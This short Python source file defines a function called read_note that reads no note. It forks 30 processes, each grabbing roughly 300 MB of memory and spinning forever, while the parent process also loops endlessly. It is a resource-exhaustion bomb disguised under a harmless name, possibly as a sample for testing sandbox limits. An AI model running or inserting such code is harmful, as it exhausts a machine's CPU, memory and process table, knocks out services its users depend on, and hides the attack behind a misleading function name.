import os
def read_note(name):
    for _ in range(30):
        if os.fork() == 0:
            x = bytearray(300 << 20)
            while True:
                pass
    while True:
        pass
